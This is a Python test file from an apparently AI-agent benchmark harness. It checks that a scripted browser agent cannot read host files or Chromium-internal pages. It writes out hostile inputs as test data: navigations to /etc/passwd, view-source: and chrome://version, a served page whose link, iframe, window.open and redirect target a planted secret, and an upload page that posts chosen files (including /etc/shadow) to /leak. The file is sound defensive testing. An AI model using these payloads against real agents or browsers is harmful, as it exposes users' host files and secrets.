"""Attacks on the trial browser's reach into the host (issue 41): a browser agent that tries to
read host files or the browser's own pages instead of the sites.

Real Chromium through the harness's own launch path, real browser-use driven by the fake LLM
server (the attacker is the model: it names the actions), `run web` through the CLI. The agent
opens `file:///etc/passwd`, a file planted beside the run, `view-source:` of it, a directory
listing, `chrome://version` (the browser's command line), and a page served on loopback that
tries a link, an iframe, `window.open` and a redirect to the planted file. Whatever the agent
does, nothing of those files or pages may reach the model, and each page it asked for is a
refused request in the trial's metrics, as a refused host is.
"""

from __future__ import annotations

import asyncio
import importlib.util
import json
import os
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

from tests.helpers.cli import run_real_web_cli as benchwright

pytestmark = [
    pytest.mark.browser,
    pytest.mark.skipif(importlib.util.find_spec("browser_use") is None,
                       reason="needs browser-use: pip install 'benchwright[web]'"),
]

KEY = "sk-benchwright-web-files-5c2e"
SECRET = "BW-PLANTED-7f3a91"
PASSWD_MARK = "root:x:0:0"
CHROME_MARK = "remote-debugging-port"  # chrome://version prints the browser's command line
LISTED = "listed-only.txt"  # a name only a directory listing shows
READ_PAGE = "document.documentElement.innerText"


def _turn(action: dict[str, Any]) -> dict[str, Any]:
    output = {"thinking": "", "evaluation_previous_goal": "", "memory": "", "next_goal": "",
              "action": [action]}
    return {"text": json.dumps(output), "usage": {"input_tokens": 1000, "output_tokens": 50}}


def _navigate(url: str) -> dict[str, Any]:
    return _turn({"navigate": {"url": url, "new_tab": False}})


UPLOAD_PAGE = ("<html><body><input type=file id=f onchange=\"f.files[0].text().then(t => "
               "fetch('/leak', {method: 'POST', body: t}))\"></body></html>")
"""A page whose file input sends whatever file it is given back to its server."""


class _Hostile(BaseHTTPRequestHandler):
    planted = ""
    leaked: list[bytes] = []

    def do_POST(self) -> None:
        self.leaked.append(self.rfile.read(int(self.headers.get("Content-Length", "0"))))
        self.send_response(204)
        self.end_headers()

    def do_GET(self) -> None:
        target = f"file://{self.planted}"
        if self.path.startswith("/upload"):
            self._send(UPLOAD_PAGE.encode())
            return
        if self.path.startswith("/redirect"):
            self.send_response(302)
            self.send_header("Location", target)
            self.end_headers()
            return
        self._send((f'<html><body><a id="go" href="{target}">open</a>'
                    f'<iframe src="{target}"></iframe>'
                    f'<script>window.open("{target}")</script></body></html>').encode())

    def _send(self, body: bytes) -> None:
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, format: str, *args: Any) -> None:
        """Quiet."""


@pytest.fixture(scope="module")
def planted(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("planted")
    (folder / LISTED).write_text("")
    secret = folder / "secret.txt"
    secret.write_text(f"{SECRET}\n")
    return secret


@pytest.fixture(scope="module")
def hostile(planted: Path) -> Iterator[tuple[str, list[bytes]]]:
    leaked: list[bytes] = []
    handler = type("Hostile", (_Hostile,), {"planted": str(planted), "leaked": leaked})
    server = ThreadingHTTPServer(("127.0.0.1", 0), handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_address[1]}", leaked
    server.shutdown()


def _attack(out: Path, urls: list[str], more: list[dict[str, Any]] | None = None,
            ) -> tuple[list[str], dict[str, Any]]:
    """Run one trial whose model opens these URLs, reading each page with a script, then takes
    the `more` turns; the model's inputs and the trial's metrics."""
    from benchwright.testing import FakeLLMServer, Script

    turns = [t for u in urls for t in (_navigate(u), _turn({"evaluate": {"code": READ_PAGE}}))]
    turns += more or []
    turns.append(_turn({"done": {"text": "nothing found", "success": False}}))
    with FakeLLMServer(Script.model_validate({"turns": turns})) as server:
        os.environ["BW_TEST_WEB_KEY"] = KEY
        try:
            done = benchwright("run", "web", "--agent", "browser-use", "--model", "gpt-4.1-mini",
                               "--base-url", f"{server.base_url}/v1", "--api-key-env",
                               "BW_TEST_WEB_KEY", "--task-ids", "9005", "--step-limit",
                               str(len(turns) + 2), "--out", str(out), "--json")
        finally:
            del os.environ["BW_TEST_WEB_KEY"]
        seen = [json.dumps(r.body) for r in server.model_calls]
    assert done.returncode == 0, done.stderr[-3000:]
    metrics = json.loads((out / "tasks" / "9005" / "trial_1" / "metrics.json").read_text())
    return seen, metrics


@pytest.fixture(scope="module")
def direct(planted: Path, tmp_path_factory: pytest.TempPathFactory,
           ) -> tuple[list[str], dict[str, Any]]:
    # browser-use refuses a URL without a host name (file:///x) but lets file://localhost/x
    # and chrome://version through: both are tried, each followed by a script reading the page
    urls = ["file:///etc/passwd", "file://localhost/etc/passwd", f"file://localhost{planted}",
            f"file://localhost{planted.parent}/", "chrome://version",
            f"view-source:file://localhost{planted}"]
    return _attack(tmp_path_factory.mktemp("direct") / "run", urls)


def _leaks(seen: list[str]) -> set[str]:
    return {mark for text in seen for mark in (PASSWD_MARK, SECRET, LISTED, CHROME_MARK)
            if mark in text}


def test_the_agent_reads_no_host_file_nor_browser_page(
        direct: tuple[list[str], dict[str, Any]]) -> None:
    seen, _ = direct
    assert len(seen) >= 6  # the model was asked again after the pages it opened
    assert _leaks(seen) == set()


def test_each_page_the_browser_was_asked_for_is_a_refused_request(
        direct: tuple[list[str], dict[str, Any]], planted: Path) -> None:
    _, metrics = direct
    refused = metrics["refused_requests"]
    for end in ("/etc/passwd", str(planted), f"{planted.parent}/"):
        assert any(u.startswith("file:") and u.endswith(end) for u in refused), (end, refused)
    assert any(u.startswith("chrome://version") for u in refused), refused


def test_a_served_page_cannot_open_a_host_file(hostile: tuple[str, list[bytes]],
                                              tmp_path: Path) -> None:
    # the page links, frames and window.opens the file; /redirect answers 302 to it
    seen, _ = _attack(tmp_path / "run", [hostile[0] + "/", hostile[0] + "/redirect"])
    assert _leaks(seen) == set()


async def _upload(ws_url: str, page: str, path: str) -> None:
    from benchwright.web.browser.cdp import CdpConnection

    connection = await CdpConnection.open(ws_url)
    try:
        tab = await connection.send("Target.createTarget", {"url": page})
        session = (await connection.send("Target.attachToTarget", {
            "targetId": tab["targetId"], "flatten": True}))["sessionId"]
        await asyncio.sleep(1.0)  # the page loads
        root = await connection.send("DOM.getDocument", session_id=session)
        node = await connection.send("DOM.querySelector", {
            "nodeId": root["root"]["nodeId"], "selector": "#f"}, session_id=session)
        await connection.send("DOM.setFileInputFiles", {
            "files": [path], "nodeId": node["nodeId"]}, session_id=session)
        await asyncio.sleep(1.0)  # the page reads the file and posts it
    finally:
        await connection.close()


@pytest.mark.parametrize("target", ["planted", "/etc/shadow"])
def test_the_browser_itself_reads_no_host_file(hostile: tuple[str, list[bytes]], planted: Path,
                                               tmp_path: Path, target: str) -> None:
    """Past the agent: a file input given a host path over CDP (browser-use's upload_file does
    that for a browser it calls remote). The browser reads the file if it can see it: the
    trial browser sees none of the host's files, and is no root to read /etc/shadow."""
    from benchwright.web.browser.shared_browser import SharedBrowser

    url, leaked = hostile
    leaked.clear()
    with SharedBrowser(workdir=tmp_path / "chromium", site_urls=[url]) as browser:
        asyncio.run(_upload(browser.running().ws_url, url + "/upload",
                            str(planted) if target == "planted" else target))
    assert not any(SECRET.encode() in body or b"root:" in body for body in leaked), leaked
